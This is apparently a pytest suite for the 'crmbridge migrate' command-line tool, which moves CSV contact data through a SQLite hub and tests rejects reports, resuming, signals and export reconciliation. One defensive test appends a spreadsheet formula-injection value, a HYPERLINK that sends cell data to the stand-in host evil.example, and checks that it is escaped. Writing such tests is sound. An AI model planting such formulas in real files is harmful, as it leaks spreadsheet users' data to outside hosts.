"""``crmbridge migrate`` as a user runs it: real CSV files in, a real SQLite hub, CSV files out."""

from __future__ import annotations

import asyncio
import csv
import json
import shlex
import signal
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from connectors.csv.connector import CsvConnector
from crmbridge.cli import app

runner = CliRunner()


@pytest.fixture
def config(tmp_path: Path) -> Path:
    """A config migrating ``data/`` (two organisations, three people, one bad) to ``out/export``."""
    data = tmp_path / "data"
    data.mkdir()
    (data / "organizations.csv").write_text(
        "Account Name,Industry\n华为技术有限公司,telecom\n阿里巴巴集团,e-commerce\n",
        encoding="utf-8",
    )
    (data / "stakeholders.csv").write_text(
        "编号,姓名,手机,邮箱,公司\n"
        "S1,王小明,138 0013 8000,wang@example.cn,华为技术有限公司\n"
        "S2,李娜,139 0013 9000,li@example.cn,阿里巴巴集团\n"
        "S3,坏号码,12345,bad@example.cn,华为技术有限公司\n",
        encoding="utf-8",
    )
    path = tmp_path / "crmbridge.yaml"
    path.write_text(
        "store: {url: 'sqlite:///hub.db'}\n"
        "defaults: {phone_region: CN}\n"
        "connectors:\n"
        "  files: {type: csv, directory: data}\n"
        "  export: {type: csv, directory: out/export}\n",
        encoding="utf-8",
    )
    return path


def migrate(config: Path, *args: str) -> object:
    return runner.invoke(
        app, ["migrate", "-c", str(config), "--from", "files", "--to", "export", *args]
    )


def rejects_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def test_a_second_run_still_reports_the_records_it_rejects_again(config: Path) -> None:
    out = config.parent / "out"
    first = migrate(config, "--report", str(out / "r1.json"))
    assert first.exit_code == 0, first.output
    second = migrate(config, "--report", str(out / "r2.json"))
    assert second.exit_code == 0, second.output
    assert "rejected records: 1" in second.stdout
    assert json.loads((out / "r2.json").read_text(encoding="utf-8"))["rejects"] == 1
    (row,) = rejects_csv(out / "r2.rejects.csv")
    assert (row["entity"], row["external_id"], row["field"]) == ("stakeholders", "S3", "mobile")
    assert row["attempts"] == "2"


def test_every_run_lists_the_rows_still_unreadable_until_they_are_mended(config: Path) -> None:
    people = config.parent / "data" / "stakeholders.csv"
    with people.open("a", encoding="utf-8") as handle:
        handle.write("S4,赵六\nS5,钱七,137 0013 7000,qian@example.cn,华为技术有限公司,extra\n")
    out = config.parent / "out"
    places = []
    for n in (1, 2):  # the second run reads nothing: the file has not changed
        result = migrate(config, "--report", str(out / f"r{n}.json"))
        assert result.exit_code == 0, result.output
        rows = rejects_csv(out / f"r{n}.rejects.csv")
        places.append([(row["line"], row["code"]) for row in rows])
        run_id = result.stdout.split("run ")[-1].split(";")[0]
        shown = runner.invoke(
            app, ["runs", "show", run_id, "--rejects", "--json", "-c", str(config)]
        )
        listed = json.loads(shown.stdout)["rejects"]
        assert sorted(r["payload"]["data"]["$line"] for r in listed) == [4, 5, 6]  # as the file
    assert (
        places[0] == places[1] == [("4", "INVALID_VALUE"), ("5", "UNREADABLE"), ("6", "UNREADABLE")]
    )
    people.write_text(people.read_text(encoding="utf-8").replace(",extra", ""), encoding="utf-8")
    assert migrate(config, "--report", str(out / "r3.json")).exit_code == 0
    lines = [row["line"] for row in rejects_csv(out / "r3.rejects.csv")]
    assert lines == ["4", "5"]


def test_the_run_that_sets_a_reject_aside_still_reports_it(config: Path) -> None:
    out = config.parent / "out"
    for n in range(1, 6):  # the fifth failure (max_record_failures) sets it aside
        assert migrate(config, "--report", str(out / f"r{n}.json")).exit_code == 0
    (row,) = rejects_csv(out / "r5.rejects.csv")
    assert (row["external_id"], row["attempts"]) == ("S3", "5")
    # set aside, it is not tried again, so later runs do not list it
    assert migrate(config, "--report", str(out / "r6.json")).exit_code == 0
    assert rejects_csv(out / "r6.rejects.csv") == []


def test_the_rejects_file_is_safe_to_open_in_a_spreadsheet(config: Path) -> None:
    people = config.parent / "data" / "stakeholders.csv"
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    with people.open("a", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerow([formula, "张三", "+8613800138001", "not-an-email", ""])
    out = config.parent / "out"
    assert migrate(config, "--report", str(out / "r.json")).exit_code == 0
    rows = {row["line"]: row for row in rejects_csv(out / "r.rejects.csv")}
    assert rows["5"]["external_id"] == "'" + formula
    assert rows["5"]["field"] == "email"


def test_a_sigterm_mid_migration_stops_it_as_ctrl_c_does(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    interrupt_writes(monkeypatch, signal=lambda: signal.raise_signal(signal.SIGTERM))
    handler = signal.getsignal(signal.SIGTERM)
    result = migrate(config)
    assert result.exit_code == 130, result.output
    assert "interrupted; what was committed stays. Resume with:" in result.stderr
    assert "--resume" in result.stderr
    assert signal.getsignal(signal.SIGTERM) is handler  # the process's own handler is back


def test_a_migration_into_a_webhook_nobody_answers_says_so(config: Path) -> None:
    with config.open("a", encoding="utf-8") as handle:
        handle.write(
            "  hook:\n    type: webhook\n    url: http://127.0.0.1:9/in?token=hook-token-value\n"
            "    allow_http: true\n    secret: whsec_MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw\n"
            "    retry: {attempts: 1}\n"
        )
    result = runner.invoke(
        app,
        ["migrate", "-c", str(config), "--from", "files", "--to", "hook"],
        terminal_width=400,
    )
    assert result.exit_code == 0, result.output
    said = " ".join(result.output.split())
    assert "2 organizations messages" not in said  # one message a batch
    assert (
        "1 organizations message to http://127.0.0.1:9/in?token=********** could not be "
        "delivered yet (connection failed: ConnectError)"
    ) in said
    assert "`crmbridge webhooks dead-letters --connector hook` lists them" in said
    assert "hook-token-value" not in result.output


@pytest.mark.parametrize(
    ("args", "says"),
    [
        (["--to", "files"], "--from and --to both name 'files'"),
        (["--to", "export", "--report", "out/reports/"], "names a folder; give the report's file"),
    ],
)
def test_a_migration_that_cannot_be_meant_is_refused_before_it_starts(
    config: Path, args: list[str], says: str
) -> None:
    result = runner.invoke(app, ["migrate", "-c", str(config), "--from", "files", *args])
    assert result.exit_code == 2
    assert says in result.stderr
    assert not (config.parent / "hub.db").exists()


def test_two_bad_rows_sharing_an_id_are_two_rejects_in_a_dry_run_and_a_real_one(
    config: Path,
) -> None:
    people = config.parent / "data" / "stakeholders.csv"
    with people.open("a", encoding="utf-8") as handle:
        handle.write("S3,张三,12,zhang@example.cn,华为技术有限公司\n")  # S3's id again, bad too
    out = config.parent / "out"
    listed = []
    for args in (["--dry-run"], []):
        assert migrate(config, *args, "--report", str(out / "r.json")).exit_code == 0
        listed.append(
            sorted((r["external_id"], r["line"]) for r in rejects_csv(out / "r.rejects.csv"))
        )
    assert listed[0] == listed[1] == [("S3", "4"), ("S3", "5")]


def test_a_sigterm_still_ends_a_migration_that_ignores_sigint(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # as a job started in the background by a script does: SIGTERM cannot become a Ctrl-C
    monkeypatch.setattr(signal, "getsignal", lambda sig: signal.SIG_IGN)
    installed: list[int] = []
    real = signal.signal
    monkeypatch.setattr(signal, "signal", lambda sig, h: installed.append(sig) or real(sig, h))
    assert migrate(config).exit_code == 0
    assert signal.SIGTERM not in installed


def migration_runs(config: Path) -> list[dict[str, object]]:
    listed = runner.invoke(app, ["runs", "list", "-c", str(config), "--json"])
    assert listed.exit_code == 0, listed.output
    return [r for r in json.loads(listed.stdout)["runs"] if r["kind"] == "migrate"]


def interrupt_writes(
    monkeypatch: pytest.MonkeyPatch,
    before: Callable[[], None] = lambda: None,
    signal: Callable[[], None] | None = None,
) -> None:
    """Make the export's first write a Ctrl-C (after ``before``), as a user pressing it mid-push;
    or, with ``signal``, call that and wait for the run to be stopped."""

    async def interrupted(self: CsvConnector, entity: str, requests: object) -> object:
        before()
        if signal is None:
            raise KeyboardInterrupt
        signal()
        await asyncio.sleep(60)  # cancelled by the interrupt
        raise AssertionError("the signal did not stop the run")

    monkeypatch.setattr(CsvConnector, "write", interrupted)


def test_report_into_a_missing_folder_creates_it(config: Path) -> None:
    report = config.parent / "reports" / "2024" / "r.json"
    result = migrate(config, "--report", str(report))
    assert result.exit_code == 0, result.output
    assert json.loads(report.read_text(encoding="utf-8"))["status"] == "succeeded"
    assert (report.parent / "r.rejects.csv").exists()
    assert [r["status"] for r in migration_runs(config)] == ["succeeded"]


def test_report_that_cannot_be_written_fails_before_the_migration_starts(config: Path) -> None:
    blocked = config.parent / "r.json"
    blocked.mkdir()
    result = migrate(config, "--report", str(blocked))
    assert result.exit_code == 1
    assert str(blocked) in result.stderr
    assert migration_runs(config) == []
    assert not (config.parent / "out" / "export").exists()


def test_interrupt_keeps_its_resume_hint_when_the_report_cannot_be_written(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report = config.parent / "out" / "r.json"
    # the rejects file's place is taken by a folder while the migration runs
    interrupt_writes(monkeypatch, lambda: (report.parent / "r.rejects.csv").mkdir())
    result = migrate(config, "--report", str(report))
    assert result.exit_code == 130
    assert "Resume with" in result.stderr
    (run,) = migration_runs(config)
    assert run["status"] == "interrupted"


def resume_hint(stderr: str) -> list[str]:
    """The command the interrupt hint says to run, as words."""
    line = stderr.split("Resume with:", 1)[1].strip().splitlines()[0]
    return shlex.split(line)


def test_interrupt_hint_carries_every_option_needed_to_resume(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    report = config.parent / "out" / "r.json"
    interrupt_writes(monkeypatch)
    result = migrate(config, "--entities", "organizations", "--report", str(report))
    assert result.exit_code == 130
    words = resume_hint(result.stderr)
    (run,) = migration_runs(config)
    assert words[:2] == ["crmbridge", "migrate"]
    for option, value in {
        "-c": str(config),
        "--from": "files",
        "--to": "export",
        "--entities": "organizations",
        "--report": str(report),
        "--resume": run["id"],
    }.items():
        assert words[words.index(option) + 1] == value


def test_resume_migrates_the_entities_the_run_was_asked_for(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    interrupt_writes(monkeypatch)
    first = migrate(config, "--entities", "organizations")
    assert first.exit_code == 130
    run_id = resume_hint(first.stderr)[-1]
    monkeypatch.undo()
    resumed = migrate(config, "--resume", run_id, "--json")
    assert resumed.exit_code == 0, resumed.output
    assert set(json.loads(resumed.stdout)["entities"]) == {"organizations"}
    export = config.parent / "out" / "export"
    assert (export / "organizations.csv").exists()
    assert not (export / "stakeholders.csv").exists()


def test_resume_with_other_entities_is_refused(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    interrupt_writes(monkeypatch)
    run_id = resume_hint(migrate(config, "--entities", "organizations").stderr)[-1]
    monkeypatch.undo()
    refused = migrate(config, "--resume", run_id, "--entities", "organizations,stakeholders")
    assert refused.exit_code == 2
    assert "--entities organizations" in refused.stderr
    assert not (config.parent / "out" / "export" / "stakeholders.csv").exists()


def test_resume_of_a_run_that_succeeded_says_there_is_nothing_to_resume(config: Path) -> None:
    assert migrate(config).exit_code == 0
    (run,) = migration_runs(config)
    again = migrate(config, "--resume", str(run["id"]))
    assert again.exit_code == 2
    assert "already succeeded" in again.stderr
    assert len(migration_runs(config)) == 1


def test_dry_run_report_lists_what_would_be_rejected_created_and_updated(config: Path) -> None:
    report = config.parent / "plan" / "d.json"
    result = migrate(config, "--dry-run", "--report", str(report), "--json")
    assert result.exit_code == 0, result.output
    written = json.loads(report.read_text(encoding="utf-8"))
    assert written["rejects"] == 1
    (row,) = rejects_csv(report.parent / "d.rejects.csv")
    assert (row["leg"], row["entity"], row["external_id"], row["field"]) == (
        "pull",
        "stakeholders",
        "S3",
        "mobile",
    )
    assert (row["code"], row["line"]) == ("INVALID_VALUE", "4")
    assert row["file"] == str(config.parent / "data" / "stakeholders.csv")
    push = written["entities"]["stakeholders"]["push"]
    assert (push["created"], push["updated"], push["pushed"]) == (2, 0, 2)
    assert not (config.parent / "out" / "export").exists()


def test_empty_entities_is_a_usage_error_naming_the_entities(config: Path) -> None:
    result = migrate(config, "--entities", "")
    assert result.exit_code == 2
    assert "organizations" in result.stderr
    assert "requirement_changes" in result.stderr
    assert migration_runs(config) == []


@pytest.mark.parametrize("side", ["--from", "--to"])
def test_unknown_connector_is_a_usage_error_naming_the_known_ones(config: Path, side: str) -> None:
    args = {"--from": "files", "--to": "export", side: "zoho"}
    result = runner.invoke(
        app, ["migrate", "-c", str(config), *(x for kv in args.items() for x in kv)]
    )
    assert result.exit_code == 2
    assert "zoho" in result.stderr
    assert "export, files" in result.stderr


def test_summary_table_is_whole_when_stdout_is_not_a_terminal(config: Path) -> None:
    result = migrate(config)
    assert result.exit_code == 0, result.output
    header = next(line for line in result.stdout.splitlines() if "entity" in line)
    assert "…" not in header
    for column in ("pulled", "created", "updated", "unchanged", "conflicts", "rejected", "pushed"):
        assert column in header


def test_help_says_which_entities_are_migrated_by_default() -> None:
    result = runner.invoke(app, ["migrate", "--help"], env={"COLUMNS": "200"})
    assert result.exit_code == 0
    assert "[default: all that both mappings map" in result.stdout


def test_runs_show_leads_to_the_file_and_line_of_each_rejected_row(config: Path) -> None:
    assert migrate(config).exit_code == 0
    listed = runner.invoke(app, ["runs", "list", "-c", str(config), "--json"])
    pull = next(r for r in json.loads(listed.stdout)["runs"] if (r["counts"] or {}).get("pulled"))
    shown = runner.invoke(
        app, ["runs", "show", pull["id"], "--rejects", "-c", str(config)], terminal_width=200
    )
    assert shown.exit_code == 0, shown.output
    assert "stakeholders.csv:4" in shown.stdout


def test_runs_show_lists_the_rejects_of_the_run_id_a_migration_prints(config: Path) -> None:
    for _ in range(2):  # the second run meets the first one's reject again
        result = migrate(config)
        assert result.exit_code == 0, result.output
        run_id = result.stdout.split("run ")[-1].split(";")[0]
        shown = runner.invoke(
            app, ["runs", "show", run_id, "--rejects", "--json", "-c", str(config)]
        )
        assert shown.exit_code == 0, shown.output
        listed = json.loads(shown.stdout)["rejects"]
        assert [(r["external_id"], r["field"]) for r in listed] == [("S3", "mobile")]


def test_a_person_already_in_the_target_file_is_updated_in_place_not_appended(
    config: Path,
) -> None:
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(
        "Record Id,Full Name,Email,Department,Favourite Colour\n"
        "X9,Wang Xiaoming,WANG@example.cn,研发部,blue\n"
        "X10,Somebody Else,else@example.cn,,green\n",
        encoding="utf-8",
    )
    result = migrate(config)
    assert result.exit_code == 0, result.output
    rows = rejects_csv(export / "stakeholders.csv")  # any CSV file reads the same way
    by_email = {row["Email"].casefold(): row for row in rows}
    assert len(rows) == 3, rows  # 王小明 matched X9 by email; 李娜 appended; X10 untouched
    wang = by_email["wang@example.cn"]
    assert (wang["Record Id"], wang["Full Name"]) == ("X9", "王小明")
    assert (wang["Department"], wang["Favourite Colour"]) == ("研发部", "blue")
    assert by_email["else@example.cn"]["Full Name"] == "Somebody Else"
    assert by_email["li@example.cn"]["Full Name"] == "李娜"


def test_a_mended_reject_is_matched_to_its_twin_in_the_target_file(config: Path) -> None:
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(
        "Record Id,Full Name,Email\nX9,Bad Number,bad@example.cn\n", encoding="utf-8"
    )
    assert migrate(config).exit_code == 0
    data = config.parent / "data" / "stakeholders.csv"
    text = data.read_text(encoding="utf-8").replace(",12345,", ",137 0013 7000,")
    data.write_text(text, encoding="utf-8")
    second = migrate(config)
    assert second.exit_code == 0, second.output
    rows = rejects_csv(export / "stakeholders.csv")
    assert [r["Record Id"] for r in rows if r["Email"].casefold() == "bad@example.cn"] == ["X9"]


def test_a_default_the_source_never_held_does_not_overwrite_the_target(config: Path) -> None:
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(
        "Record Id,Full Name,Email,Stakeholder Type\nX9,Wang,wang@example.cn,供应商\n",
        encoding="utf-8",
    )
    assert migrate(config).exit_code == 0
    rows = rejects_csv(export / "stakeholders.csv")
    wang = next(r for r in rows if r["Email"].casefold() == "wang@example.cn")
    # the source file has no type column: the hub's "customer" is only the model's default
    assert (wang["Full Name"], wang["Stakeholder Type"]) == ("王小明", "供应商")


def test_a_target_row_that_cannot_be_read_is_passed_over_not_rejected(config: Path) -> None:
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(
        "Record Id,Full Name,Email\nX1,Too,many@example.cn,cells\nX2,Wang,wang@example.cn\n",
        encoding="utf-8",
    )
    result = migrate(config, "--report", str(config.parent / "r.json"))
    assert result.exit_code == 0, result.output
    assert "1 stakeholders records of export could not be compared" in result.stderr
    assert "line 2" in result.stderr
    # only the source's bad row is a reject; the broken target row is left as it was
    (row,) = rejects_csv(config.parent / "r.rejects.csv")
    assert row["external_id"] == "S3"
    text = (export / "stakeholders.csv").read_text(encoding="utf-8")
    assert "X1,Too,many@example.cn,cells" in text
    assert text.count("wang@example.cn") == 1


def test_a_twin_at_a_company_the_target_file_does_not_list_is_still_found(config: Path) -> None:
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(  # no organizations.csv beside it
        "Record Id,Full Name,Email,Account Name\nX9,Wang,wang@example.cn,华为\n",
        encoding="utf-8",
    )
    result = migrate(config)
    assert result.exit_code == 0, result.output
    rows = rejects_csv(export / "stakeholders.csv")
    wang = [r for r in rows if r["Email"].casefold() == "wang@example.cn"]
    assert [r["Record Id"] for r in wang] == ["X9"]
    assert wang[0]["Account Name"] == "华为技术有限公司"  # the source's company goes out


def test_a_blank_type_in_the_source_does_not_overwrite_the_target(config: Path) -> None:
    data = config.parent / "data" / "stakeholders.csv"
    data.write_text("编号,姓名,手机,邮箱,类型\nS1,王小明,138 0013 8000,wang@example.cn,\n", "utf-8")
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(
        "Record Id,Full Name,Email,Stakeholder Type\nX9,Wang,wang@example.cn,供应商\n",
        encoding="utf-8",
    )
    result = migrate(config, "--entities", "stakeholders")
    assert result.exit_code == 0, result.output
    (wang,) = rejects_csv(export / "stakeholders.csv")
    assert (wang["Full Name"], wang["Stakeholder Type"]) == ("王小明", "供应商")


def test_a_person_the_target_file_holds_twice_waits_and_the_summary_says_so(
    config: Path,
) -> None:
    export = config.parent / "out" / "export"
    export.mkdir(parents=True)
    (export / "stakeholders.csv").write_text(
        "Record Id,Full Name,Email\nX1,Wang,wang@example.cn\nX2,Wang,WANG@example.cn\n",
        encoding="utf-8",
    )
    result = migrate(config)
    assert result.exit_code == 0, result.output
    assert "1 stakeholders records were not sent to export" in result.stderr
    rows = rejects_csv(export / "stakeholders.csv")
    assert sum(r["Email"].casefold() == "wang@example.cn" for r in rows) == 2


def export_rows(config: Path, entity: str) -> list[dict[str, str]]:
    return rejects_csv(config.parent / "out" / "export" / f"{entity}.csv")


def test_a_deleted_export_is_written_again_by_the_next_run(config: Path) -> None:
    assert migrate(config).exit_code == 0
    people = config.parent / "out" / "export" / "stakeholders.csv"
    before = sorted(row["Full Name"] for row in export_rows(config, "stakeholders"))
    people.unlink()
    again = migrate(config, "--report", str(config.parent / "r.json"))
    assert again.exit_code == 0, again.output
    assert sorted(row["Full Name"] for row in export_rows(config, "stakeholders")) == before
    assert "2 stakeholders records sent to export before are no longer there" in again.output
    report = json.loads((config.parent / "r.json").read_text(encoding="utf-8"))
    assert report["entities"]["stakeholders"]["push"]["pushed"] == 2
    assert len(export_rows(config, "organizations")) == 2  # still there: not sent again
    assert "organizations records" not in again.output
    third = migrate(config)
    assert "no longer there" not in third.output
    assert len(export_rows(config, "stakeholders")) == 2


def test_rows_cut_from_the_export_are_sent_again_and_no_other(config: Path) -> None:
    assert migrate(config).exit_code == 0
    people = config.parent / "out" / "export" / "stakeholders.csv"
    lines = people.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    kept = [line for line in lines if "李娜" not in line]
    kept[1] = kept[1].replace("王小明", "王小明 (edited)")  # a hand edit the hub does not undo
    people.write_text("".join(kept), encoding="utf-8-sig")
    again = migrate(config)
    assert again.exit_code == 0, again.output
    assert "1 stakeholders records sent to export before" in again.output
    names = sorted(row["Full Name"] for row in export_rows(config, "stakeholders"))
    assert names == ["李娜", "王小明 (edited)"]


def test_a_dry_run_plans_sending_a_lost_export_again_and_changes_nothing(config: Path) -> None:
    assert migrate(config).exit_code == 0
    export = config.parent / "out" / "export"
    (export / "organizations.csv").unlink()
    side_files = sorted(p.name for p in (export / ".crmbridge").iterdir())
    planned = migrate(config, "--dry-run", "--json")
    assert planned.exit_code == 0, planned.output
    plan = json.loads(planned.stdout)
    assert plan["entities"]["organizations"]["push"]["created"] == 2
    assert not (export / "organizations.csv").exists()
    assert sorted(p.name for p in (export / ".crmbridge").iterdir()) == side_files
    assert migrate(config).exit_code == 0  # the dry run forgot nothing for real
    assert len(export_rows(config, "organizations")) == 2


def test_an_export_without_its_id_column_is_not_taken_as_lost(config: Path) -> None:
    assert migrate(config).exit_code == 0
    people = config.parent / "out" / "export" / "stakeholders.csv"
    rows = export_rows(config, "stakeholders")
    with people.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, [c for c in rows[0] if c != "crmbridge_id"])
        writer.writeheader()
        writer.writerows({k: v for k, v in row.items() if k != "crmbridge_id"} for row in rows)
    again = migrate(config)
    assert again.exit_code == 0, again.output
    assert "no longer there" not in again.output  # its rows' ids now derive from their content
    assert len(export_rows(config, "stakeholders")) == 2


def with_zoho_needing(config: Path, variable: str) -> None:
    text = config.read_text(encoding="utf-8")
    config.write_text(
        text + "  crm: {type: zoho, client_id: x, client_secret: '${" + variable + "}', "
        "refresh_token: y}\n",
        encoding="utf-8",
    )


def test_an_unset_secret_of_another_connector_does_not_stop_a_migration(
    config: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("CRMBRIDGE_TEST_UNSET", raising=False)
    with_zoho_needing(config, "CRMBRIDGE_TEST_UNSET")
    result = migrate(config)
    assert result.exit_code == 0, result.output
    assert len(export_rows(config, "stakeholders")) == 2
    into_crm = runner.invoke(app, ["migrate", "-c", str(config), "--from", "files", "--to", "crm"])
    assert into_crm.exit_code == 1
    assert "connectors.crm.client_secret: ${CRMBRIDGE_TEST_UNSET} is not set" in into_crm.stderr
    assert "Traceback" not in into_crm.output
    shown = runner.invoke(app, ["config", "show", "-c", str(config)])
    assert shown.exit_code == 0, shown.output
    assert "connectors:" in shown.stdout
    assert "connector crm cannot be used" in shown.stderr
    assert "${CRMBRIDGE_TEST_UNSET} is not set" in shown.stderr
    # the daemon needs every connector ready: it must refuse before it starts
    monkeypatch.setattr("crmbridge.daemon.Daemon", None)
    daemon = runner.invoke(app, ["run", "-c", str(config)])
    assert daemon.exit_code == 1
    assert "${CRMBRIDGE_TEST_UNSET} is not set" in daemon.stderr


def test_a_company_renamed_in_the_export_is_not_taken_as_lost(config: Path) -> None:
    assert migrate(config).exit_code == 0
    companies = config.parent / "out" / "export" / "organizations.csv"
    text = companies.read_text(encoding="utf-8-sig")
    companies.write_text(text.replace("阿里巴巴集团", "阿里巴巴集团有限公司"), encoding="utf-8-sig")
    again = migrate(config)
    assert again.exit_code == 0, again.output
    assert "no longer there" not in again.output  # a name cannot tell: the row is left
    names = sorted(row["Account Name"] for row in export_rows(config, "organizations"))
    assert names == ["华为技术有限公司", "阿里巴巴集团有限公司"]
    companies.unlink()  # a deleted file is lost whatever its ids are
    third = migrate(config)
    assert "2 organizations records sent to export before" in third.output
    assert len(export_rows(config, "organizations")) == 2


def test_a_damaged_row_that_still_shows_its_id_gets_no_twin(config: Path) -> None:
    assert migrate(config).exit_code == 0
    people = config.parent / "out" / "export" / "stakeholders.csv"
    lines = people.read_text(encoding="utf-8-sig").splitlines(keepends=True)
    lines[-1] = ",".join(lines[-1].split(",")[:3]) + "\r\n"  # cut short by hand
    people.write_text("".join(lines), encoding="utf-8-sig")
    again = migrate(config)
    assert again.exit_code == 0, again.output
    assert "no longer there" not in again.output
    with people.open(encoding="utf-8-sig", newline="") as handle:
        ids = [row[0] for row in csv.reader(handle)][1:]
    assert len(ids) == len(set(ids)) == 2


@pytest.mark.parametrize("left", [b"\xef\xbb\xbf", b"\r\n"], ids=["bom", "blank-line"])
def test_an_export_emptied_in_an_editor_is_filled_again(config: Path, left: bytes) -> None:
    assert migrate(config).exit_code == 0
    (config.parent / "out" / "export" / "stakeholders.csv").write_bytes(left)
    again = migrate(config)
    assert again.exit_code == 0, again.output
    assert len(export_rows(config, "stakeholders")) == 2


def test_a_header_the_export_broke_does_not_stop_a_run_with_nothing_to_send(
    config: Path,
) -> None:
    assert migrate(config).exit_code == 0
    people = config.parent / "out" / "export" / "stakeholders.csv"
    text = people.read_text(encoding="utf-8-sig")
    people.write_text(text.replace("Secondary Email", "Email", 1), encoding="utf-8-sig")
    again = migrate(config)
    assert again.exit_code == 0, again.output


def test_unreadable_rows_of_a_source_file_since_deleted_are_settled(config: Path) -> None:
    people = config.parent / "data" / "stakeholders.csv"
    with people.open("a", encoding="utf-8") as handle:
        handle.write("S4,赵六\n")
    out = config.parent / "out"
    assert migrate(config, "--report", str(out / "r1.json")).exit_code == 0
    assert "UNREADABLE" in {row["code"] for row in rejects_csv(out / "r1.rejects.csv")}
    people.unlink()
    again = migrate(config, "--report", str(out / "r2.json"))
    assert again.exit_code == 0, again.output
    # S3's bad phone number is retried from what the hub kept of it; S4's row is gone
    codes = [(row["external_id"], row["code"]) for row in rejects_csv(out / "r2.rejects.csv")]
    assert codes == [("S3", "INVALID_VALUE")]


def test_a_bad_row_removed_from_the_source_is_no_longer_reported(config: Path) -> None:
    out = config.parent / "out"
    assert migrate(config, "--report", str(out / "r1.json")).exit_code == 0
    assert [row["external_id"] for row in rejects_csv(out / "r1.rejects.csv")] == ["S3"]
    people = config.parent / "data" / "stakeholders.csv"
    kept = [line for line in people.read_text(encoding="utf-8").splitlines() if "S3" not in line]
    people.write_text("\n".join(kept) + "\n", encoding="utf-8")
    again = migrate(config, "--report", str(out / "r2.json"))
    assert again.exit_code == 0, again.output
    assert rejects_csv(out / "r2.rejects.csv") == []
    assert "rejected records: 0" in again.stdout


def test_a_refused_edit_of_a_row_since_deleted_is_settled(config: Path) -> None:
    config.write_text(
        config.read_text(encoding="utf-8")
        + "jobs:\n  files-sync: {connector: files, direction: pull, deletes: ignore}\n",
        encoding="utf-8",
    )
    people = config.parent / "data" / "stakeholders.csv"
    text = people.read_text(encoding="utf-8")

    def sync() -> dict[str, object]:
        result = runner.invoke(app, ["sync", "files-sync", "-c", str(config), "--json"])
        assert result.exit_code == 0, result.output
        report: dict[str, object] = json.loads(result.stdout)
        return report

    def open_rejects() -> list[str]:
        found = runner.invoke(app, ["runs", "list", "-c", str(config), "--json"])
        latest = json.loads(found.stdout)["runs"][0]["id"]
        shown = runner.invoke(
            app, ["runs", "show", latest, "--rejects", "--json", "-c", str(config)]
        )
        rejects = json.loads(shown.stdout)["rejects"]
        return sorted(r["external_id"] for r in rejects if r["status"] == "open")

    sync()
    people.write_text(text.replace("138 0013 8000", "138"), encoding="utf-8")  # S1 now bad
    sync()
    assert open_rejects() == ["S1", "S3"]
    people.write_text(
        "\n".join(line for line in text.splitlines() if not line.startswith("S1,")) + "\n",
        encoding="utf-8",
    )
    sync()
    assert open_rejects() == ["S3"]  # S1's refused edit went with its row; S3 is still there
